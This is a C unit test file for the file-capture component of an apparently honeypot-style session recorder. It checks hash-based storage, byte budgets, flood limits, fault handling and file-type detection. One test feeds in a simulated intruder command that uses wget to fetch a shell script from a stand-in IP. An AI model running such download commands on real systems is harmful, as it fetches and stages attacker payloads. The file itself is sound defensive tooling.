/* SPDX-License-Identifier: BSD-2-Clause */
/* Content of files: once by its hash, never executable, within its budget, whole or not there. */
#include "session/test/rig.h"

#include "session/session_priv.h"

#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#define ABC "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"

struct rows {
	struct session_file_row all[64];
	uint32_t n, kept;
};

static bool take_row(void *ctx, const struct session_file_row *row)
{
	struct rows *r = ctx;
	if (r->n < 64)
		r->all[r->n] = *row;
	r->n++;
	r->kept += row->kept;
	return true;
}

static struct rows rows_of(struct rig *r)
{
	struct rows rows = {.n = 0};
	assert_int_equal(session_files(r->dir, take_row, &rows), 0);
	return rows;
}

static int set_up(void **state)
{
	struct rig *r = calloc(1, sizeof(*r));
	assert_non_null(r);
	rig_open(r, 1);
	rig_visit(r, 1, "198.51.100.7", 1, 22);
	*state = r;
	return 0;
}

static int tear_down(void **state)
{
	struct rig *r = *state;
	assert_int_equal(r->invalid, 0);
	rig_remove(r);
	free(r);
	return 0;
}

static void test_once(void **state)
{
	struct rig *r = *state;
	struct stat st;
	char path[256];
	rig_exec(r, 1, 50, 1, 0,
		 (const char *const[]){"wget", "-q", "http://192.0.2.1/x.sh", NULL});
	rig_content(r, 1, 50, 1, "/tmp/x.sh", "abc", 3);
	assert_string_equal(r->last[EVENT_FILE].u.file.what, "fetched");
	assert_string_equal(r->last[EVENT_FILE].u.file.sha256, ABC);
	assert_string_equal(r->last[EVENT_FILE].u.file.type, "text");
	assert_int_equal(r->last[EVENT_FILE].u.file.known, 0);
	rig_content(r, 1, 51, 2, "/tmp/y", "abc", 3);
	assert_string_equal(r->last[EVENT_FILE].u.file.what, "written");
	assert_int_equal(r->last[EVENT_FILE].u.file.known, 1);
	struct rows rows = rows_of(r);
	assert_int_equal(rows.n, 1);
	assert_string_equal(rows.all[0].sha256, ABC);
	assert_string_equal(rows.all[0].name, "/tmp/x.sh");
	assert_int_equal(rows.all[0].times, 2);
	assert_int_equal(rows.all[0].size, 3);
	assert_true(rows.all[0].kept && rows.all[0].session != 0 &&
		    rows.all[0].first_ns == RIG_START);
	snprintf(path, sizeof(path), "%s/files/%.2s/" ABC, r->dir, ABC);
	assert_int_equal(stat(path, &st), 0);
	assert_int_equal(st.st_mode & 07777, 0400);
	char *index = rig_read(r, "files/index.jsonl");
	assert_non_null(strstr(index, "\"source\":\"http://192.0.2.1/x.sh\""));
	free(index);
	rig_wait(r, NS_PER_SEC);
	char *cowrie = rig_read(r, rig_day(r, "cowrie.json"));
	assert_non_null(strstr(cowrie, "cowrie.session.file_download"));
	assert_non_null(strstr(cowrie, "\"outfile\":\"files/ba/" ABC "\""));
	assert_non_null(strstr(cowrie, "\"url\":\"http://192.0.2.1/x.sh\""));
	free(cowrie);
	/* Another life knows it, too. */
	rig_close(r);
	rig_again(r);
	rig_content(r, 1, 51, 3, "/tmp/z", "abc", 3);
	assert_int_equal(r->last[EVENT_FILE].u.file.known, 1);
}

static void test_long(void **state)
{
	struct rig *r = *state;
	size_t len = 3u << 20;
	uint8_t *data = calloc(1, len), sha[32];
	char hex[65], path[256];
	struct stat st;
	assert_non_null(data);
	for (size_t i = 0; i < len; i++)
		data[i] = (uint8_t)(i * 7 + i / 251);
	memcpy(data,
	       "\x7f"
	       "ELF\2\1\1\0\0\0\0\0\0\0\0\0\3\0\x3e\0",
	       20);
	rig_content(r, 1, 50, 9, "/tmp/bot", data, len);
	digest_sha256(data, len, sha);
	digest_hex(sha, 32, hex);
	assert_string_equal(r->last[EVENT_FILE].u.file.sha256, hex);
	assert_string_equal(r->last[EVENT_FILE].u.file.type,
			    "ELF 64-bit x86-64 program or library");
	snprintf(path, sizeof(path), "%s/files/%.2s/%s", r->dir, hex, hex);
	assert_int_equal(stat(path, &st), 0);
	assert_int_equal(st.st_size, len);
	assert_int_equal(st.st_mode & 07777, 0400);
	free(data);
	/* One that is longer than may be kept. */
	rig_close(r);
	r->conf.conf.file_bytes = 100000;
	rig_again(r);
	data = calloc(1, 200000);
	rig_content(r, 1, 50, 10, "/tmp/zeros", data, 200000);
	free(data);
	char *index = rig_read(r, "files/index.jsonl");
	assert_non_null(strstr(index, "\"size\":200000"));
	assert_non_null(strstr(index, "\"complete\":false"));
	free(index);
	snprintf(path, sizeof(path), "%s/files/%.2s/%s", r->dir, r->last[EVENT_FILE].u.file.sha256,
		 r->last[EVENT_FILE].u.file.sha256);
	assert_int_equal(stat(path, &st), 0);
	assert_int_equal(st.st_size, 100000);
}

static void test_budget(void **state)
{
	struct rig *r = *state;
	char text[9000];
	rig_close(r);
	r->conf.conf.files_bytes = 1u << 20;
	rig_again(r);
	memset(text, ' ', sizeof(text));
	for (int i = 0; i < 300; i++) {
		snprintf(text, sizeof(text), "file %d", i);
		rig_content(r, 1, 50, (uint64_t)i + 1, "/tmp/f", text, sizeof(text));
		if (i % 20 == 19) /* a guest's share of a day */
			r->now += 86400 * NS_PER_SEC;
	}
	struct rows rows = rows_of(r);
	assert_int_equal(rows.n, 300);
	assert_true(rows.kept > 60 && rows.kept < 90); /* 12 kB each */
	assert_false(rows.all[0].kept);
	assert_true(r->book->files->used <= 1u << 20);
	uint64_t used = r->book->files->used;
	rig_close(r);
	rig_again(r);
	assert_true(r->book->files->used == used); /* measured anew: the same */
}

/* 10⁵ small files: refused beyond a rate, counted; index and content bounded. */
static void test_flood(void **state)
{
	struct rig *r = *state;
	char text[32];
	rig_close(r);
	r->conf.conf.files_bytes = 2u << 20;
	rig_again(r);
	for (int i = 0; i < 100000; i++) {
		snprintf(text, sizeof(text), "file %d", i);
		rig_content(r, 1, 50, (uint64_t)i + 1, "/tmp/f", text, strlen(text));
		r->now += i % 10000 == 0 ? 86400 * NS_PER_SEC : NS_PER_MS;
	}
	struct rows rows = rows_of(r);
	/* The index is in two parts of a sixteenth each. */
	assert_true(rows.n > 500 && rows.n < 5000 && rows.kept > 100);
	assert_true(rig_bytes(r) < (2u << 20) + (2u << 20) / 8 + (1u << 20));
	rig_wait(r, 11 * NS_PER_SEC);
	assert_true(r->by_kind[EVENT_HEALTH] > 0);
}

static void test_faults(void **state)
{
	struct rig *r = *state;
	/* A piece is missing: kept, but not as whole. */
	struct sensor_record rec = {.type = SENSOR_CONTENT, .boot_ns = r->boot_ns, .n_texts = 2};
	struct sensor_content *c = &rec.u.content;
	rec.texts[0] = (struct sensor_text){(const uint8_t *)"/a", 2};
	rec.texts[1] = (struct sensor_text){(const uint8_t *)"abcd", 4};
	c->visit = 1;
	c->pid = 50;
	c->file = 70;
	c->size = 12;
	session_record(r->book, 0, &rec, r->now);
	c->offset = 8;
	c->flags = SENSOR_CONTENT_LAST;
	session_record(r->book, 0, &rec, r->now);
	char *index = rig_read(r, "files/index.jsonl");
	assert_non_null(strstr(index, "\"size\":12"));
	assert_non_null(strstr(index, "\"complete\":false"));
	free(index);
	/* The beginning is missing: nothing. */
	c->file = 71;
	session_record(r->book, 0, &rec, r->now);
	assert_int_equal(rows_of(r).n, 1);
	/* Nothing in it. */
	c->file = 72;
	c->offset = 0;
	rec.texts[1].len = 0;
	session_record(r->book, 0, &rec, r->now);
	assert_int_equal(rows_of(r).n, 1);
	assert_string_equal(r->last[EVENT_FILE].u.file.sha256, "");
	/* More at once than there are places; none ever ends. */
	rec.texts[1].len = 4;
	c->flags = 0;
	for (uint64_t i = 0; i < 200; i++) {
		c->file = 1000 + i;
		session_record(r->book, 0, &rec, r->now);
	}
	rig_wait(r, 70 * NS_PER_SEC);
	for (uint32_t i = 0; i < FILES_OPEN; i++)
		assert_true(r->book->files->open[i].id == 0);
}

static void test_full(void **state)
{
	struct rig *r = *state;
	struct rlimit old, now;
	uint32_t days;
	uint8_t *data = calloc(1, 200000);
	signal(SIGXFSZ, SIG_IGN);
	assert_int_equal(getrlimit(RLIMIT_FSIZE, &old), 0);
	now = old;
	now.rlim_cur = 100000;
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &now), 0);
	rig_content(r, 1, 50, 1, "/tmp/zeros", data, 200000);
	int err = session_book_tick(r->book, r->now, &days);
	assert_int_equal(setrlimit(RLIMIT_FSIZE, &old), 0);
	free(data);
	assert_true(err < 0);
	assert_int_equal(rows_of(r).n, 0);
	assert_string_equal(r->last[EVENT_FILE].u.file.sha256, "");
	/* Nothing half-written stays. */
	assert_true(rig_bytes(r) < 40000);
}

static void test_wire(void **state)
{
	struct rig *r = *state;
	struct session_file_open o = {
		.guest = 0, .how = "uploaded", .name = "a\x1b", .source = "ftp", .size = 3};
	uint64_t f = session_file_begin(r->book, &o, r->now);
	assert_true(f != 0);
	session_file_data(r->book, f, "a", 1);
	session_file_data(r->book, f, "bc", 2);
	session_file_end(r->book, f, true, r->now);
	session_file_end(r->book, f, true, r->now);
	session_file_data(r->book, f, "bc", 2);
	struct rows rows = rows_of(r);
	assert_int_equal(rows.n, 1);
	assert_string_equal(rows.all[0].sha256, ABC);
	assert_string_equal(rows.all[0].name, "a\x1b");
	assert_string_equal(rows.all[0].how, "uploaded");
	assert_true(rows.all[0].session == 0);
}

/* A guest that opens many ends its own, not another's. */
static void test_open_shares(void **state)
{
	struct rig *r = *state;
	struct session_file_open o = {.guest = 1, .how = "uploaded", .name = "a", .source = ""};
	rig_close(r);
	text_copy(r->conf.guests[1].name, sizeof(r->conf.guests[1].name), "db");
	r->conf.n_guests = 2;
	rig_again(r);
	uint64_t f = session_file_begin(r->book, &o, r->now);
	session_file_data(r->book, f, "abc", 3);
	o.guest = 0;
	for (unsigned i = 0; i < 2 * FILES_OPEN; i++)
		assert_true(session_file_begin(r->book, &o, r->now + i) != 0);
	assert_non_null(files_find(r->book->files, f));
	session_file_end(r->book, f, true, r->now);
	struct rows rows = rows_of(r);
	assert_int_equal(rows.n, 1);
	assert_string_equal(rows.all[0].sha256, ABC);
}

/* In a day a guest may fill a part of the budget: what was kept before, of another, stays. */
static void test_day_share(void **state)
{
	struct rig *r = *state;
	static uint8_t big[100000];
	struct session_file_open o = {.guest = 1, .how = "uploaded", .name = "a", .source = ""};
	rig_close(r);
	text_copy(r->conf.guests[1].name, sizeof(r->conf.guests[1].name), "db");
	r->conf.n_guests = 2;
	r->conf.conf.files_bytes = 1u << 20;
	rig_again(r);
	uint64_t f = session_file_begin(r->book, &o, r->now);
	session_file_data(r->book, f, "abc", 3);
	session_file_end(r->book, f, true, r->now);
	o.guest = 0;
	for (unsigned i = 0; i < 40; i++) {
		big[0] = (uint8_t)i;
		f = session_file_begin(r->book, &o, r->now);
		session_file_data(r->book, f, big, sizeof(big));
		session_file_end(r->book, f, true, r->now);
	}
	struct rows rows = rows_of(r);
	assert_int_equal(rows.kept, 1 + 3);
	assert_int_equal(rows.n, rows.kept);
	r->now += 86400 * NS_PER_SEC;
	rig_wait(r, NS_PER_SEC);
	assert_true(session_file_begin(r->book, &o, r->now) != 0);
}

/* Files that never end take no more of the disk than a part of the budget, either. */
static void test_open_bytes(void **state)
{
	struct rig *r = *state;
	static uint8_t big[200000];
	struct session_file_open o = {.guest = 0, .how = "uploaded", .name = "a", .source = ""};
	rig_close(r);
	r->conf.conf.files_bytes = 4u << 20;
	rig_again(r);
	for (unsigned i = 0; i < FILES_OPEN; i++) {
		uint64_t f = session_file_begin(r->book, &o, r->now);
		assert_true(f != 0);
		session_file_data(r->book, f, big, sizeof(big));
	}
	assert_true(rig_bytes(r) < (1u << 20) + 2 * sizeof(big));
}

static void test_types(void **state)
{
	static const struct {
		const char *head;
		size_t len;
		const char *type;
	} rows[] = {
		{"", 0, "empty"},
		{"#!/bin/sh\n", 10, "script of sh"},
		{"#! /usr/bin/env python3\n", 24, "script of python3"},
		{"#!", 2, "text"},
		{"#!\x01", 3, "script of ?"},
		{"\x7f"
		 "ELF",
		 4, "ELF"},
		{"\x7f"
		 "ELF\1\2\1\0\0\0\0\0\0\0\0\0\0\2\0\x8",
		 20, "ELF 32-bit MIPS program"},
		{"MZ", 2, "PE program"},
		{"\x1f\x8b", 2, "gzip data"},
		{"PK\3\4", 4, "zip archive"},
		{"\xc3\xa4\xc3", 3, "text"},
		{"\xc3\x28", 2, "data"},
		{"a\0b", 3, "data"},
		{"a\x01", 2, "data"},
	};
	char buf[48], tar[300] = "name";
	for (size_t i = 0; i < ARRAY_LEN(rows); i++)
		assert_string_equal(
			file_type((const uint8_t *)rows[i].head, rows[i].len, buf, sizeof(buf)),
			rows[i].type);
	memcpy(tar + 257, "ustar", 5);
	assert_string_equal(file_type((const uint8_t *)tar, sizeof(tar), buf, sizeof(buf)),
			    "tar archive");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_types),
		cmocka_unit_test_setup_teardown(test_once, set_up, tear_down),
		cmocka_unit_test_setup_teardown(test_long, set_up, tear_down),
		cmocka_unit_test_setup_teardown(test_budget, set_up, tear_down),
		cmocka_unit_test_setup_teardown(test_flood, set_up, tear_down),
		cmocka_unit_test_setup_teardown(test_faults, set_up, tear_down),
		cmocka_unit_test_setup_teardown(test_full, set_up, tear_down),
		cmocka_unit_test_setup_teardown(test_wire, set_up, tear_down),
		cmocka_unit_test_setup_teardown(test_open_shares, set_up, tear_down),
		cmocka_unit_test_setup_teardown(test_day_share, set_up, tear_down),
		cmocka_unit_test_setup_teardown(test_open_bytes, set_up, tear_down),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
